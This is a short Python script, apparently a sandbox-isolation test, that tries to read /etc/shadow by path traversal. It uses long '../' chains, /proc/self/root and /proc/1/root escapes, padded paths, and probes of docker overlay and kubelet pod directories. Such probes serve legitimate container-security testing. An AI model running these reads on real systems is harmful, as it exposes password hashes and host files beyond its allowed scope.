# Up and out: more steps than there are folders, roots of other processes, names too long, doors that lead back in.
from kit import attempt, finish, read

for start in ("", "/work/", "/proc/self/cwd/", "/proc/self/root/", "/proc/self/root/proc/self/root/"):
    attempt(f"up from {start or 'here'}", read, f"{start}{'../' * 60}etc/shadow")
for path in (
    "/proc/1/cwd/../etc/shadow",
    "/proc/1/root/../../etc/shadow",
    "/proc/1/task/1/root/etc/shadow",
    "/./etc//./shadow",
    "/var/run/../../etc/shadow",
    "/var/lib/docker/overlay2",
    "/var/lib/kubelet/pods",
    "/etc/shadow" + "/." * 2000,
):
    attempt(path[:60], read, path)
finish()
